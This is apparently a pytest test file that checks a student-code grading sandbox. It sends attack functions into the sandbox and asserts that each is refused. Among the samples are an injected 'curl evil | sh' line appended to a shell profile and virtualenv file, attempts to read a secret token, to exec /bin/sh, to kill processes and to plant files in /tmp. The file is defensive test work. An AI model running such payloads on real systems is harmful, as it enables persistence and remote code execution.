"""What the allow-list must hold in every deployment (conftest.py): the machine beyond the
worker's scratch is neither readable nor writable, no process of the grading user can be
signalled, no socket reaches the loopback, nothing is left to the next student.
"""

from __future__ import annotations

import os
import socket
import subprocess
import textwrap
import uuid
from pathlib import Path

import _pytest
import pytest

from dlgrade import grader
from dlgrade.grader.sandbox import Sandbox
from tests.grader.sandbox.test_sandbox_tamper import SMALL, code, fingerprint, run_attack

REFERENCE = Path(grader.__file__).resolve().parents[1] / "reference"


def test_a_world_readable_copy_of_the_reference_cannot_be_found_or_read(zygote, world_readable_dir):
    copy = world_readable_dir / "backup" / "reference"
    copy.mkdir(parents=True)
    for source in REFERENCE.glob("*.py"):
        (copy / source.name).write_bytes(source.read_bytes())
    for path in (copy.parent, copy, *copy.iterdir()):
        path.chmod(0o755 if path.is_dir() else 0o644)
    attack = """
    import glob, os
    def f(known):
        found = []
        for pattern in ["/var/tmp/**/initialization.py", "/opt/**/initialization.py",
                        "/srv/**/initialization.py", "/home/**/initialization.py"]:
            found += glob.glob(pattern, recursive=True)
        read = []
        for path in [known, *found]:
            try:
                read.append(open(path).read()[:40])
            except OSError as e:
                read.append(type(e).__name__)
        return read
    """
    outcome, _ = run_attack(zygote, attack, "f", str(copy / "initialization.py"))
    assert outcome.value == ["PermissionError"]  # the glob found nothing, the path is refused


@pytest.fixture
def grading_home(grading_uid, world_readable_dir):
    """A home of the grading user: a shell profile, a private file, a virtualenv file."""
    home = world_readable_dir / "home"
    package = home / "venv" / "lib" / "site-packages" / "_pytest"
    package.mkdir(parents=True)
    files = {
        ".bashrc": ("alias ls=ls\n", 0o644),
        "secret.txt": ("the grading user's token\n", 0o600),
        "venv/lib/site-packages/_pytest/__init__.py": ("# pytest\n", 0o644),
    }
    for name, (text, mode) in files.items():
        (home / name).write_text(text)
        (home / name).chmod(mode)
    for path in [home, *home.rglob("*")]:
        os.chown(path, grading_uid, grading_uid)
    return home


def test_the_grading_users_files_cannot_be_read_or_written(zygote, grading_home):
    venv_file = grading_home / "venv/lib/site-packages/_pytest/__init__.py"
    targets = [grading_home / ".bashrc", venv_file, Path(_pytest.__file__)]
    before = fingerprint([*targets, grading_home / "secret.txt"])
    attack = """
    def f(secret, targets):
        outcomes = []
        try:
            outcomes.append(open(secret).read())
        except OSError as e:
            outcomes.append(type(e).__name__)
        for path in targets:
            try:
                with open(path, "a") as handle:
                    handle.write("import os; os.system('curl evil | sh')\\n")
                outcomes.append("written")
            except OSError as e:
                outcomes.append(type(e).__name__)
        return outcomes
    """
    secret = str(grading_home / "secret.txt")
    outcome, _ = run_attack(zygote, attack, "f", secret, [str(t) for t in targets])
    # refused by the allow-list; a venv under /tmp (a CI clone) is hidden by the private /tmp
    assert outcome.value[:3] == ["PermissionError"] * 3
    assert outcome.value[3] in ("PermissionError", "FileNotFoundError")
    assert fingerprint([*targets, grading_home / "secret.txt"]) == before


def test_the_standard_librarys_own_site_packages_shows_nothing(zygote):
    """Hidden under an empty mount in a mount namespace, else refused by Landlock."""
    from dlgrade.grader.sandbox.worker import confine

    hideable = confine.hideable_packages()
    samples = [next((p for p in Path(d).rglob("*.py")), Path(d) / "x.py") for d in hideable]
    attack = """
    import os
    def f(folders, files):
        seen = []
        for folder in folders:
            try:
                seen.append(os.listdir(folder))
            except OSError as e:
                seen.append(type(e).__name__)
        for path in files:
            try:
                seen.append(open(path).read()[:20])
            except OSError as e:
                seen.append(type(e).__name__)
        return seen
    """
    outcome, sandbox = run_attack(zygote, attack, "f", list(hideable), [str(p) for p in samples])
    listings, reads = outcome.value[: len(hideable)], outcome.value[len(hideable) :]
    assert all(listing in ([], "PermissionError") for listing in listings)
    assert all(read in ("PermissionError", "FileNotFoundError") for read in reads)
    if sandbox.isolation["mount_namespace"] and not sandbox.isolation["user_namespace"]:
        # as root the worker can reach them to mount over them (a user may not even see
        # them: then the rules list the standard library entry by entry instead)
        assert set(hideable) <= set(sandbox.isolation["hidden_paths"])


def test_nothing_is_planted_in_the_hosts_shared_directories(zygote):
    marker = f"dlgrade-plant-{uuid.uuid4().hex}"
    places = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock"]
    attack = """
    import os
    def f(places, marker):
        for place in places:
            try:
                with open(os.path.join(place, marker), "w") as handle:
                    handle.write("print('from another student')")
            except OSError:
                pass
        return 1
    """
    outcome, _ = run_attack(zygote, attack, "f", places, marker)
    assert outcome.value == 1
    assert [p for p in places if os.path.exists(os.path.join(p, marker))] == []


def test_processes_of_the_grading_user_cannot_be_signalled(zygote, grading_uid):
    user = {"user": grading_uid, "group": grading_uid} if os.geteuid() == 0 else {}
    victim = subprocess.Popen(["sleep", "60"], **user)
    try:
        attack = """
        import os, signal
        def f(pids):
            outcomes = []
            for pid in pids:
                try:
                    os.kill(pid, signal.SIGKILL)
                    outcomes.append("killed")
                except OSError as e:
                    outcomes.append(type(e).__name__)
            return outcomes
        """
        outcome, _ = run_attack(zygote, attack, "f", [victim.pid, zygote.pid, os.getpid()])
        assert set(outcome.value) <= {"ProcessLookupError", "PermissionError"}
        assert victim.poll() is None and zygote.restarts == 0
    finally:
        victim.kill()
        victim.wait()


def test_no_socket_reaches_a_listener_on_the_loopback(zygote):
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    attack = """
    import socket
    def f(port):
        outcomes = []
        for family, address in [(socket.AF_INET, ("127.0.0.1", port)),
                                (socket.AF_INET6, ("::1", port))]:
            try:
                socket.socket(family, socket.SOCK_STREAM).connect(address)
                outcomes.append("connected")
            except OSError as e:
                outcomes.append(type(e).__name__)
        return outcomes
    """
    with listener:
        outcome, _ = run_attack(zygote, attack, "f", port)
        with pytest.raises(TimeoutError):
            listener.accept()
    assert "connected" not in outcome.value


def test_sysv_ipc_cannot_carry_code_to_the_next_student(zygote):
    """A message queue or shared-memory segment outlives its process and is shared."""
    attack = """
    import ctypes
    def f():
        libc = ctypes.CDLL(None, use_errno=True)
        results = [libc.msgget(0x5EED, 0o1666), libc.shmget(0x5EED, 1 << 23, 0o1666)]
        return [results, ctypes.get_errno()]
    """
    outcome, _ = run_attack(zygote, attack, "f")
    assert outcome.value == [[-1, -1], 1]  # EPERM


@pytest.mark.parametrize(
    "source",
    [
        "import os\ndef f():\n    return os.listdir('/root')",
        "import os\ndef f():\n    return os.listdir('/etc')",
        "import os\ndef f():\n    os.execv('/bin/sh', ['sh', '-c', 'id'])",
        "import ctypes\ndef f():\n    return ctypes.CDLL(None).unshare(0x10000000)",
    ],
    ids=["list-home", "list-etc", "exec-a-shell", "new-user-namespace"],
)
def test_the_rest_of_the_machine_is_out_of_reach(zygote, source):
    with Sandbox(code(textwrap.dedent(source)), limits=SMALL, zygote=zygote) as sandbox:
        outcome = sandbox.call("f")
    assert outcome.value == -1 or outcome.error_type in ("PermissionError", "FileNotFoundError")


def test_a_reply_too_large_to_decode_fails_only_its_call(zygote):
    """Decoding is the grader's work: a reply of 300,000 elements is refused, not decoded."""
    source = "def f():\n    return [0] * 300_000\ndef g():\n    return 2\n"
    with Sandbox(code(source), limits=SMALL, zygote=zygote) as sandbox:
        refused, after = sandbox.call("f"), sandbox.call("g")
    assert refused.error_type == "UnsupportedValue" and "more than 200000" in refused.error_message
    assert after.value == 2
